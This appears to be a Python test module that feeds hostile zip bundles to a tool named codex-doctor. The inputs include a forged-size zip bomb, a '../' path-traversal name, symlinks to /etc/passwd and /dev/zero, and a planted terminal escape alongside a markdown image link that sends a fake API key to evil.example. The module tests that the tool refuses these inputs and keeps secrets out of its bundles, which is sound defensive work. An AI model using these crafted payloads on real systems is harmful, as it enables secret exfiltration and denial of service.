"""Bundles that somebody sent: bombs, odd names, planted texts; and secrets that must not go in."""

from __future__ import annotations

import json
import stat
import zipfile
from io import BytesIO
from typing import TYPE_CHECKING, Any, Final

from bundles import bundle_of, contents, sealed, zipped
from codex_doctor.lab.fault import CONFIG
from hostile.case import SIGNALS, Case
from hostile.cases_budget import silent
from hostile.cases_crash import BUDGET, is_told
from hostile.cases_process import INTERRUPTED

if TYPE_CHECKING:
    from collections.abc import Callable

    from hostile.case import Outcome, Place

_USAGE: Final = frozenset({2})
_FAILS: Final = frozenset({1})
_KEY: Final = "sk-planted-8Hq3Xv91Lm4Zt7WdRt55"
_REPLAY: Final = ("replay", "a.zip", "--json")


def _members() -> dict[str, bytes]:
    return contents(bundle_of("key-rejected").data)


def _putting(make: Callable[[], bytes], name: str = "work/a.zip") -> Callable[[Place], None]:
    """Return what puts a file there; it is made when the case runs."""

    def prepare(place: Place) -> None:
        (place.root / name).write_bytes(make())

    return prepare


def _refused(kind: str, name: str, make: Callable[[], bytes], said: str) -> Case:
    return Case(
        *(kind, f"bundle-{name}", _REPLAY),
        prepare=_putting(make),
        codes=_USAGE,
        is_json=None,
        check=is_told("codex-doctor: ", said),
    )


def _bomb() -> bytes:
    """Return a bomb of which the central folder says that it is small."""
    data = bytearray(zipped({**_members(), "bomb.txt": bytes(200_000_000)}))
    at = data.rindex(b"bomb.txt") - 46
    data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(data)


def _link() -> bytes:
    stream = BytesIO(zipped(_members()))
    with zipfile.ZipFile(stream, "a") as archive:
        info = zipfile.ZipInfo("link.txt")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
    return stream.getvalue()


def _facts(change: Callable[[dict[str, Any]], None]) -> bytes:
    facts: dict[str, Any] = json.loads(_members()["facts.json"])
    change(facts)
    return sealed({**_members(), "facts.json": json.dumps(facts).encode()})


def _planted(facts: dict[str, Any]) -> None:
    facts["setup"]["model"] = f"\x1b]0;owned\x07 {_KEY}"
    facts["setup"]["values"]["model"] = facts["setup"]["model"]
    facts["setup"]["provider_name"] = f"![](http://evil.example/{_KEY})"


def _many(facts: dict[str, Any]) -> None:
    facts["exchanges"] = facts["exchanges"][:1] * 400
    facts["setup"]["values"] = {f"key{at}": "a" * 1000 for at in range(1500)}


def _is_inert(outcome: Outcome) -> None:
    assert "\\x1b" in outcome.text
    assert "\x1b" not in outcome.text


def _never_ending(place: Place) -> None:
    (place.root / "work/a.zip").symlink_to("/dev/zero")


def _is_alone(outcome: Outcome) -> None:
    assert outcome.written["a.zip"].startswith(b"PK")
    texts = contents(outcome.written["a.zip"])
    assert not any(_KEY.encode() in data for data in texts.values())
    assert b"model" in texts["configuration.txt"]


def _is_partial(outcome: Outcome) -> None:
    assert outcome.report["verdict"] == "unknown"
    assert outcome.report["bytes"] == len(outcome.written["a.zip"])


CASES: Final = (
    _refused("size", "bomb", _bomb, "no whole zip file"),
    _refused(
        "size", "deep", lambda: sealed({**_members(), "facts.json": b"[" * 3_900_000}), "facts.json"
    ),
    _refused("trust", "upwards", lambda: zipped({"../home/x": b""}), "plain names only"),
    _refused("trust", "link", _link, "plain files"),
    _refused("trust", "changed", lambda: zipped({**_members(), "report.md": b"x"}), "changed"),
    _refused("crash", "cut", lambda: bundle_of("key-rejected").data[:5000], "no whole zip file"),
    _refused("crash", "text", lambda: b"no zip at all", "it is no zip file"),
    Case(
        *("size", "bundle-without-end", _REPLAY),
        prepare=_never_ending,
        codes=_USAGE,
        is_json=None,
        check=is_told("is not a regular file"),
    ),
    Case(
        *("size", "bundle-many-facts", _REPLAY),
        prepare=_putting(lambda: _facts(_many)),
        codes=_FAILS,
    ),
    Case(
        *("shown", "bundle-planted", ("replay", "a.zip", "-v")),
        prepare=_putting(lambda: _facts(_planted)),
        secrets=(_KEY,),
        codes=_FAILS,
        is_json=False,
        check=_is_inert,
    ),
    Case(
        *("shown", "compare-planted", ("compare", "a.zip", *BUDGET)),
        prepare=_putting(lambda: _facts(_planted)),
        secrets=(_KEY,),
        codes=frozenset({0}),
        is_json=False,
        check=_is_inert,
    ),
    Case(
        *("shown", "bundle-of-a-key", ("bundle", "{root}/out/a.zip", *BUDGET)),
        config=CONFIG + f'http_headers = {{ "x-api-key" = "{_KEY}" }}\n# {_KEY}\n',
        secrets=(_KEY,),
        is_json=False,
        check=_is_alone,
    ),
    Case(
        *("process", "bundle-interrupted", ("bundle", "{root}/out/a.zip", "--json", *BUDGET)),
        endpoint=silent,
        signals=((SIGNALS["int"], 0.1), (SIGNALS["int"], 0.1)),
        after="request",
        codes=INTERRUPTED,
        seconds=1.0,
        check=_is_partial,
    ),
)
